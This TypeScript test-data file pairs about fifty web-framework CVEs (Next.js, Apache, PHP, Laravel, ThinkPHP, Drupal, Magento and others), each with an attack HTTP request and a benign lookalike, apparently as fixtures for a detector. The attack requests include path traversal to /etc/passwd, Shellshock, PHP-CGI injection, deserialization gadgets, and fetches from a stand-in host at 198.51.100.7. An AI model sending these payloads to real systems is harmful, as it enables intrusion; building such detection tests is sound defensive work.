import type { Cases } from './cases.ts';

export const webFrameworks: Cases = {
  'CVE-2025-55182': [
    'POST /\nNext-Action: x\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="0"\n\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"1;","_formData":{"get":"$1:constructor:constructor"}}}\n--b--',
    'POST /\nNext-Action: 40ab\n\n[{"name":"mara","_id":"$undefined"}]',
  ],
  'CVE-2025-29927': [
    'GET /dashboard\nx-middleware-subrequest: middleware:middleware:middleware',
    'GET /dashboard\nx-middleware: off',
  ],
  'CVE-2024-34351': [
    'GET /_next/image?url=http://169.254.169.254/latest&w=64&q=75',
    'GET /_next/image?url=%2Flogo.png&w=64&q=75',
  ],
  'CVE-2025-30208': ['GET /@fs/etc/passwd?raw??', 'GET /@fs/home/mara/app/src/main.ts?t=1'],
  'CVE-2019-5418': ['GET /chybeta\nAccept: ../../../../../../../../etc/passwd{{', 'GET /\nAccept: text/html'],
  'CVE-2013-0156': [
    'POST /\nContent-Type: text/xml\n\n<a type="yaml">--- !ruby/object:ERB {}</a>',
    'POST /\nContent-Type: text/xml\n\n<a type="integer">1</a>',
  ],
  'CVE-2021-41773': ['GET /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'GET /icons/a.gif'],
  'CVE-2021-42013': ['POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh\n\necho', 'GET /cgi-bin/test-%20a'],
  'CVE-2021-40438': [`GET /?unix:${'A'.repeat(100)}|http://198.51.100.7/`, 'GET /?unix:time'],
  'CVE-2014-6271': [
    'GET /cgi-bin/status\nUser-Agent: () { :;}; /bin/bash -c "id"',
    'GET /\nUser-Agent: fn() { return 1 }',
  ],
  'CVE-2024-4577': [
    'POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input\n\n<?php 1;',
    'GET /index.php?page=d&allow=1',
  ],
  'CVE-2012-1823': [
    'POST /cgi-bin/php?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp://input\n\n<?php 1;',
    'GET /cgi-bin/php?-s',
  ],
  'php-8.1-dev-backdoor': ['GET /\nUser-Agentt: zerodiumsystem("id");', 'GET /\nUser-Agent: zerodium'],
  'CVE-2019-11043': [`GET /index.php/PHP_VALUE%0Aa=1;;;;?${'Q'.repeat(120)}`, 'GET /index.php/a%0A?q=1'],
  'CVE-2017-9841': [
    'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php\n\n<?php echo 1;',
    'GET /vendor/phpunit/phpunit/README.md',
  ],
  'CVE-2021-3129': [
    'POST /_ignition/execute-solution\n\n{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution"}',
    'GET /ignition/health',
  ],
  'CVE-2018-15133': [
    `POST /\nX-XSRF-TOKEN: eyJpdiI6${'A'.repeat(420)}`,
    'POST /\nX-XSRF-TOKEN: eyJpdiI6IkFB',
  ],
  'CVE-2024-52301': ['GET /?--env=testing', 'GET /?env=testing'],
  'CVE-2025-54068': [
    'POST /livewire/update\n\n{"components":[{"updates":{"a":[[],{"class":"GuzzleHttp\\\\Psr7\\\\FnStream","s":"clctn"}]}}]}',
    'POST /livewire/update\n\n{"components":[{"updates":{"name":"mara"}}]}',
  ],
  'CVE-2018-20062': [
    'GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=a',
    'GET /index.php?s=/index/think/page',
  ],
  'CVE-2019-9082': [
    'GET /public/index.php?s=index/\\think\\template\\driver\\file/write&cacheFile=a.php&content=b',
    'GET /index.php?s=template/write',
  ],
  'thinkphp-5.0-construct': [
    'POST /index.php?s=captcha\n\n_method=__construct&filter[]=system&method=get&get[]=id',
    'POST /index.php?s=captcha\n\n_method=PUT',
  ],
  'CVE-2022-47945': ['GET /?lang=../../../../public/index', 'GET /?lang=en'],
  'pearcmd-inclusion': [
    'GET /?+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=phpinfo()?>+/tmp/a.php',
    'GET /?q=pear+commands',
  ],
  'symfony-fragment': [
    'GET /_fragment?_path=_controller%3Dphpinfo%26what%3D-1&_hash=a',
    'GET /fragment?path=a',
  ],
  'exposed-symfony-profiler': [
    'GET /app_dev.php/_profiler/open?file=app/config/parameters.yml',
    'GET /profiler/open?file=a',
  ],
  'CVE-2024-58136': [
    'POST /\n\n{"as hack":{"__class":"GuzzleHttp\\\\Psr7\\\\FnStream","class":"yii\\\\behaviors\\\\AttributeBehavior"}}',
    'POST /\n\n{"as of":"2026","class":"a"}',
  ],
  'CVE-2016-10033': [
    'POST /contact.php\n\nemail=%22attacker%5C%22+-oQ/tmp/+-X/var/www/a.php+-OQueueDirectory=/tmp+a%22@a.example',
    'POST /contact.php\n\nemail=mara@a.example',
  ],
  'CVE-2015-8562': [
    'GET /\nUser-Agent: }__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";}',
    'GET /\nUser-Agent: test|mysqli',
  ],
  'CVE-2023-23752': [
    'GET /api/index.php/v1/config/application?public=true',
    'GET /api/v1/config?public=true',
  ],
  'CVE-2017-8917': [
    'GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x3e,user()),1)',
    'GET /index.php?option=com_fields&view=fields',
  ],
  'CVE-2018-7600': [
    'POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax\n\nmail[#post_render][]=exec&mail[#markup]=id',
    'POST /user/register?ajax_form=1\n\nmail=a@a.example',
  ],
  'CVE-2014-3704': [
    'POST /?q=node&destination=node\n\nname[0%20;update+users+set+name%3D%27a%27;#]=a&name[0]=b&pass=c&form_id=user_login_block',
    'POST /?q=node\n\nname[0]=a&pass=c&form_id=user_login_block',
  ],
  'CVE-2019-6340': [
    'POST /node/?_format=hal_json\n\n{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{}"}]}',
    'POST /node/?_format=hal_json\n\n{"link":[{"value":"link","options":"open"}]}',
  ],
  'CVE-2019-16759': [
    'POST /\n\nroutestring=ajax/render/widget_php&widgetConfig[code]=echo+1;',
    'POST /\n\nroutestring=ajax/render/widget_html',
  ],
  'CVE-2020-17496': [
    'POST /ajax/render/widget_tabbedcontainer_tab_panel\n\nsubWidgets[0][template]=widget_php',
    'POST /ajax/render/widget_tab\n\na=b',
  ],
  'CVE-2025-48827': [
    'POST /ajax/api/ad/replaceAdTemplate\n\nstyleid=1&location=a&template=b',
    'POST /ajax/api/ad/list\n\na=b',
  ],
  'CVE-2024-34102': [
    'POST /rest/V1/guest-carts/1/estimate-shipping-methods\n\n{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"http://198.51.100.7/a.xml","dataIsURL":true,"options":1}}}}}}',
    'POST /rest/V1/guest-carts/1/estimate-shipping-methods\n\n{"address":{"country_id":"NO"}}',
  ],
  'CVE-2025-54236': ['POST /customer/address_file/upload\n\na', 'POST /customer/address/save\n\na'],
  'CVE-2022-24086': [
    'POST /rest/V1/carts/mine\n\n{"firstname":"{{var this.getTemplateFilter().filter(foobar)}}"}',
    'POST /rest/V1/carts/mine\n\n{"firstname":"{{var name}}"}',
  ],
  'CVE-2023-41892': [
    'POST /index.php\n\naction=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"a"}}',
    'POST /index.php\n\naction=users/login',
  ],
  'CVE-2025-32432': [
    'POST /index.php?p=admin/actions/assets/generate-transform\n\n{"assetId":11,"handle":{"width":1,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior"}}}',
    'GET /index.php?p=assets/transform',
  ],
  'CVE-2024-56145': ['GET /?--templatesPath=ftp://198.51.100.7:2121/', 'GET /?templatesPath=a'],
  'CVE-2018-12613': [
    'GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd',
    'GET /phpmyadmin/index.php?target=db_sql.php',
  ],
  'CVE-2009-1151': [
    'POST /phpMyAdmin/scripts/setup.php\n\naction=lay_navigation&configuration=a',
    'GET /scripts/install.php',
  ],
  'CVE-2021-21311': [
    'POST /adminer.php\n\nauth[driver]=elastic&auth[server]=198.51.100.7',
    'GET /administer.php',
  ],
  'xdebug-remote-session': ['GET /?XDEBUG_SESSION_START=phpstorm', 'GET /?session_start=1'],
  'CVE-2017-14849': ['GET /static/../../../a/../../../../etc/passwd', 'GET /static/a/b.css'],
  'CVE-2023-29489': ['GET /cpanelwebcall/<img%20src=x%20onerror="prompt(1)">aaaa', 'GET /cpanelwebcall/a1b2'],
};
